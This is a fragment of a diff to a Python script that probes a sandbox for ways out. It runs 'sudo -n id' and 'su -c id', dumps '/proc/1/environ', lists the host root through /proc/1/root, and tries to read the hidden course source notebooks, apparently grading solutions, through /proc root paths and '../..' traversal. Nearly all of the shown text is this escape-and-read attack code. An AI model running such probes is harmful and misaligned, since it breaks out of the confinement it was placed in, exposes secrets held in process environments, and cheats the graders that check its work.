@@ -31,7 +31,7 @@ for name, attempt in tries.items():
         print(name, attempt(), os.strerror(ctypes.get_errno()))
     except Exception as error:
         print(name, error)
-for command in ("sudo -n id", "su -c id", "mount", "cat /proc/1/environ", "ls /proc/1/root/root"):
+for command in ("sudo -n id", "su -c id", "mount", "cat /proc/1/environ", "ls /proc/1/root"):
     print(subprocess.run(command, shell=True, capture_output=True, stdin=-3).stdout[:2000])
 for top in ("/proc/1/root", "/proc/self/root", "/tmp/../.."):
     subprocess.run(f"cat {top}/@COURSE@/source/*/*.ipynb", shell=True)
